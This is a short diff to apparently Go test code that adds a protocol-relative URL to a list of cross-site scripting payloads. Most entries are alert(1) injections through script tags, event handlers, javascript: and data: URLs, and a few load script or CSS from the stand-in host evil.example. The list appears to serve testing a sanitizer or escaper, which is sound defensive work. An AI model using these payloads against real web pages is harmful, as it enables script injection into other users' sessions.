@@ -20,6 +20,7 @@ var ownPayloads = []string{
 	`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `' autofocus onfocus=alert(1) x='`, `javascript:alert(1)`, `</title><script>alert(1)</script>`,
 	`--><svg onload=alert(1)>`, `]]><a href="javascript:alert(1)">x</a>`, "<scr\x00ipt>alert(1)</scr\x00ipt>", `&lt;script&gt;alert(1)&lt;/script&gt;`, `{{.Root}}`,
 	`data:text/html,<script>alert(1)</script>`, `//evil.example/x.js`, ` data-live="search" hidden><script>`, "\u202e<b>txet", `<style>@import "//evil.example"</style>`,
+	`https://bags.example//evil.example/`,
 }
 
 // payloads are lines that attack pages: the shared list where it is at hand.
